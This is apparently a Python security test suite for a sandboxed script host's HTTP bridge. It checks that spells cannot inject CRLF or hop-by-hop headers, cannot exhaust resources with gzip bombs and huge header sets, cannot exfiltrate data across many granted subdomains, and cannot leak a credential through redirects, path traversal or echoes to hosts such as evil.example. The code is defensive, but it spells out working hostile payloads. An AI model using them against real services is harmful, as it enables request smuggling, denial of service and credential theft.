"""What a spell can send with the bridge `http` to whom it may ask, and what it gets back."""

from __future__ import annotations

import base64
import contextlib
import gzip
import os
import secrets
from collections.abc import Iterator
from typing import Any, Final
from urllib.parse import quote

from .._attack import BOTH, Succeeded, host
from .._stage import Stage
from ._ground import CANARY, PERMITTED, Ground, Names, answer

_MIB: Final = 1 << 20
_VARIABLE: Final = "LLMSPELL_TEST_SECRET"

_HEADERS: Final[list[dict[str, str]]] = [
    {"X": "a\r\nEvil: 1"}, {"X": "a\nEvil: 1"}, {"X": "a\rEvil: 1"}, {"X": "a\0"},
    {"X": "\u560a\u560dEvil: 1"}, {"X\r\nEvil": "1"}, {"X: 1\r\nEvil": "1"}, {"a b": "c"},
    {"Host": "evil.example"}, {"hOST": "evil.example"}, {"Content-Length": "0"},
    {"Transfer-Encoding": "chunked"}, {"Connection": "authorization"}, {"Upgrade": "websocket"},
    {"Proxy-Authorization": "x"}, {"TE": "trailers"}, {"Expect": "100-continue"},
    {"X-Forwarded-For": "127.0.0.1"}, {"Authorization": "Bearer mine"},
]  # fmt: skip


@host("B10", "headers that are not the spell's to set", engines=BOTH)
async def headers(stage: Stage) -> str:
    with _secret() as token:
        async with Ground(stage, secrets={"mine": _config("ok.example")}) as ground:
            _bind(ground)
            report = await ground.run(
                "local found = {} for i, h in ipairs(params.headers) do"
                " local ok, e = pcall(http.get, params.url, {headers = h, auth = 'mine'})"
                " found[i] = ok and 'sent' or e.kind end return found",
                "const found = []; for (const headers of params.headers)"
                " found.push(await http.get(params.url, {headers, auth: 'mine'})"
                ".then(() => 'sent', (e) => e.kind)); return found",
                headers=_HEADERS,
                url=ground.url("http://ok.example:P/"),
            )
            sent = [h for h, kind in zip(_HEADERS, report.value, strict=True) if kind == "sent"]
            if sent or ground.heads or token in repr(report):
                raise Succeeded(f"sent {sent}: {ground.heads}")
    return f"{len(_HEADERS)} headers, none sent"


@host("B11", "answers without measure", engines=BOTH)
async def bombs(stage: Stage) -> str:
    bomb = gzip.compress(b"\0" * (64 * _MIB))
    replies = {
        "/bomb": answer(bomb, 200, "content-encoding: gzip"),
        "/nested": answer(gzip.compress(bomb), 200, "content-encoding: gzip, gzip"),
        "/brotli": answer(b"x", 200, "content-encoding: br"),
        "/large": answer(b"x" * (12 * _MIB)),
        "/headers": answer(b"", 200, *(f"h{number}: x" for number in range(5000))),
        "/crowd": answer(b"", 200, *("h: x" for _ in range(100_000))),
        "/short": b"HTTP/1.1 200 OK\r\ncontent-length: 99\r\nconnection: close\r\n\r\nx",
    }
    async with Ground(stage, reply=lambda head: replies[head.split(" ")[1]]) as ground:
        report = await ground.run(
            "local found = {} for i, path in ipairs(params.paths) do"
            " local ok, e = pcall(http.get, params.url .. path)"
            " found[i] = ok and 'got it' or e.kind end return found",
            "const found = []; for (const path of params.paths)"
            " found.push(await http.get(params.url + path).then(() => 'got it', (e) => e.kind));"
            " return found",
            paths=list(replies),
            url=ground.url("http://ok.example:P"),
        )
    kinds = dict(zip(replies, report.value, strict=True))
    if set(kinds.values()) - {"Limit", "Serialization", "Provider"}:
        raise Succeeded(f"{kinds}")
    return f"{len(kinds)} answers, each cut off, in {report.usage.wall * 1000:.0f} ms"


@host("B12", "carrying data off through a granted host", engines=BOTH)
async def exfiltration(stage: Stage) -> str:
    budget = 50_000
    names = Names({f"{number}.ok.example": [[PERMITTED]] for number in range(1000)})
    async with Ground(stage, names, grants=("*.ok.example",), max_sent=budget) as ground:
        report = await ground.run(
            "local sent = 0 for i = 0, 999 do"
            " local ok, e = pcall(http.post, 'http://' .. i .. '.ok.example' .. params.at,"
            " {query = {q = ('x'):rep(200)}, headers = {h = ('x'):rep(200)},"
            " body = ('x'):rep(200)}) if not ok then return {sent, e.kind} end sent = i end",
            "let sent = 0; for (let i = 0; i < 1000; i++) { try { await http.post("
            "'http://' + i + '.ok.example' + params.at, {query: {q: 'x'.repeat(200)},"
            " headers: {h: 'x'.repeat(200)}, body: 'x'.repeat(200)}); sent = i; }"
            " catch (e) { return [sent, e.kind]; } }",
            at=ground.url(":P/"),
        )
        carried = sum(map(len, ground.heads))
        if carried > budget or not report.value or report.value[1] != "Limit":
            raise Succeeded(f"{carried} bytes of {budget}: {report.value}")
        if len(names.asked) > len(ground.heads):
            raise Succeeded(f"{len(names.asked)} names looked up, {len(ground.heads)} requests")
    return f"{carried} of {budget} bytes in {len(ground.heads)} requests, then Limit"


@host("B19", "a secret for another host, port, path or scheme", engines=BOTH)
async def credential_sent_elsewhere(stage: Stage) -> str:
    def lead(head: str) -> bytes:
        path = head.split(" ")[1]
        if path == "/v1/away":
            return answer(b"", 307, ground.url(f"location: http://{CANARY}:P/"))
        if path == "/v1/up":
            return answer(b"", 307, "location: /v1/../elsewhere")
        return answer(b"end")

    with _secret() as token:
        settings = {"secrets": {"mine": {**_config("ok.example"), "prefix": "/v1"}}}
        zone = {"ok.example": [[PERMITTED]], "evil.example": [[CANARY]]}
        grants = ("evil.example", CANARY, PERMITTED)
        async with Ground(stage, Names(zone), reply=lead, grants=grants, **settings) as ground:
            _bind(ground, allow_private=[f"{at}:{ground.port}" for at in (CANARY, PERMITTED)])
            urls = [
                "http://evil.example:P/v1/", f"http://{CANARY}:P/v1/", f"http://{PERMITTED}:P/v1/",
                "http://ok.example:P/", "http://ok.example:P/v1x", "http://ok.example:P/v1/../x",
                "http://ok.example:P/v1/%2e%2e/x", "http://ok.example:P/v1/..%2fx",
                "https://ok.example:P/v1/", "http://ok.example:P/v1/away",
                "http://ok.example:P/v1/up",
            ]  # fmt: skip
            report = await ground.run(
                "local found = {} for i, url in ipairs(params.urls) do"
                " local ok, e = pcall(http.get, url, {auth = 'mine'})"
                " found[i] = ok and e.body or e.message end return found",
                "const found = []; for (const url of params.urls) found.push(await"
                " http.get(url, {auth: 'mine'}).then((r) => r.body, (e) => e.message));"
                " return found",
                urls=[ground.url(url) for url in urls],
            )
            astray = [head for head in ground.heads if token in head and " /v1/" not in head]
            if astray or token in repr((ground.visits, report)):
                raise Succeeded(f"the secret went astray: {ground.visits} {astray}")
            if sum(token in head for head in ground.heads) != 2:
                raise ValueError(f"it was not sent where it is meant to go: {report.value}")
    return f"{len(urls)} requests; it went to its own server and path only"


@host("B20", "an upstream that says back what it was sent", engines=BOTH)
async def credential_echoed(stage: Stage) -> str:
    def echo(head: str) -> bytes:
        data = token.encode()
        forms = [
            head, base64.b64encode(data).decode(), base64.urlsafe_b64encode(data).decode(),
            data.hex(), quote(token, safe=""), token.lower(),
            "".join(f"\\u{ord(letter):04x}" for letter in token),
        ]  # fmt: skip
        path = head.split(" ")[1]
        if path == "/location":
            return answer(b"", 302, f"location: http://{data.hex()[:60]}.evil.example/{token}")
        text = '{"echo": "' + " ".join(forms).replace("\r\n", " ") + '"}'
        return answer(text.encode(), 401 if path == "/fail" else 200, f"x-echo: {token}")

    with _secret() as token:
        async with Ground(stage, reply=echo, secrets={"mine": _config("ok.example")}) as ground:
            _bind(ground)
            report = await ground.run(
                "local found = {} for i, path in ipairs({'/', '/fail', '/location'}) do"
                " for _, expect in ipairs({'text', 'bytes', 'json'}) do"
                " local ok, r = pcall(http.get, params.url .. path,"
                " {auth = 'mine', expect = expect})"
                " found[#found + 1] = ok and {r.headers, r.body} or r.message end end"
                " console.log(json.encode(found[1])) return found",
                "const found = []; for (const path of ['/', '/fail', '/location'])"
                " for (const expect of ['text', 'bytes', 'json'])"
                " found.push(await http.get(params.url + path, {auth: 'mine', expect})"
                ".then((r) => [r.headers, r.body], (e) => e.message));"
                " console.log(json.encode(found[0])); return found",
                url=ground.url("http://ok.example:P"),
            )
            if not any(token in head for head in ground.heads):
                raise ValueError(f"it was not sent at all: {report}")
            shown = repr(report).lower()
            for form in (token, base64.b64encode(token.encode()).decode(), token.encode().hex()):
                if form.lower() in shown:
                    raise Succeeded(f"the report shows it as {form}")
            if "***" not in shown:
                raise ValueError(f"nothing was masked: {report}")
    return "nine answers in which it is said back in eight ways: it shows in none"


@contextlib.contextmanager
def _secret() -> Iterator[str]:
    """A secret in the environment of the host, where the operator would put it."""
    token = f"tk-{secrets.token_hex(16)}"
    os.environ[_VARIABLE] = token
    try:
        yield token
    finally:
        del os.environ[_VARIABLE]


def _config(name: str) -> dict[str, Any]:
    """The settings of a secret for one host; `_bind` adds the port."""
    return {"value_env": _VARIABLE, "scheme": "http", "host": name}


def _bind(ground: Ground, **settings: Any) -> None:
    """The port is known only when the ground is."""
    ground.settings["secrets"]["mine"]["port"] = ground.port
    ground.settings.update(settings)
